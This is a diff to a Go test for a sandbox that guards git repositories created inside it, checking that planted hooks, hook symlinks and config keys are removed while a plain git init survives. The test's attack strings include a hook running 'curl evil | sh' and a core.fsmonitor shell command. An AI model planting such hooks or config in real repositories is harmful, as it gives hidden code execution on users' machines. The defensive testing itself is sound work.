@@ -10,9 +10,11 @@ import (
 	"gatehouse/internal/sandbox"
 )
 
-// A .git made by the command itself is guarded too: a hook or config
-// planted in the same command (git init, or a plain mkdir .git) is removed
-// after it, and the result says so; the repository itself stays.
+// A .git made by the command itself is guarded too: a hook (a file or a
+// link) or config planted in the same command (git init, or a plain mkdir
+// .git) is removed after it, and the result says so; the repository itself
+// stays, and a plain git init (and remote add) keeps its config and hook
+// samples untouched.
 func TestGitMadeByTheCommandIsGuarded(t *testing.T) {
 	if _, err := exec.LookPath("git"); err != nil {
 		t.Skip("git is not installed")
@@ -20,6 +22,7 @@ func TestGitMadeByTheCommandIsGuarded(t *testing.T) {
 	layered(t, boxOpts{on: true}, func(t *testing.T, b *box) {
 		attacks := []string{
 			`mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout && printf '[core]\n\thooksPath = /tmp/x\n' > .git/config`,
+			`git init -q && ln -s "$TMPDIR/evil" .git/hooks/post-checkout`,
 			`git init -q && echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git config core.fsmonitor 'sh -c evil'`,
 		}
 		for _, a := range attacks {
@@ -28,10 +31,13 @@ func TestGitMadeByTheCommandIsGuarded(t *testing.T) {
 			if code != 0 {
 				t.Fatalf("%s: exit %d: %s", a, code, out)
 			}
-			for _, planted := range []string{".git/hooks/pre-commit", ".git/hooks/post-checkout", ".git/config"} {
-				if exists(filepath.Join(b.ws, planted)) {
+			for _, planted := range []string{".git/hooks/pre-commit", ".git/hooks/post-checkout"} {
+				if _, err := os.Lstat(filepath.Join(b.ws, planted)); err == nil {
 					t.Errorf("%s: %s stayed", a, planted)
 				}
+			}
+			if config, _ := os.ReadFile(filepath.Join(b.ws, ".git/config")); strings.Contains(string(config), "fsmonitor") || strings.Contains(string(config), "hooksPath") {
+				t.Errorf("%s: the planted config stayed:\n%s", a, config)
 			}
 			if len(res.Restored) == 0 {
 				t.Errorf("%s: the result does not say what was removed", a)
@@ -42,6 +48,14 @@ func TestGitMadeByTheCommandIsGuarded(t *testing.T) {
 		}
 		if !exists(filepath.Join(b.ws, ".git/HEAD")) {
 			t.Fatal("the repository the command made is gone")
+		}
+		os.RemoveAll(filepath.Join(b.ws, ".git"))
+		_, out, res := b.runRes(t, `git init -q && git remote add origin https://example.com/x.git && git config user.name Init`)
+		if len(res.Restored) > 0 || !exists(filepath.Join(b.ws, ".git/hooks/pre-commit.sample")) {
+			t.Fatalf("a plain git init was undone (%v): %s", res.Restored, out)
+		}
+		if out := b.mustRun(t, "git remote -v && git config user.name"); !strings.Contains(out, "example.com/x.git") || !strings.Contains(out, "Init") {
+			t.Fatalf("a plain git init lost its config: %s", out)
 		}
 		// The next command finds .git and holds it as any other.
 		b.mustRun(t, `git -c user.name=T -c user.email=t@example.com commit -q --allow-empty -m first`)
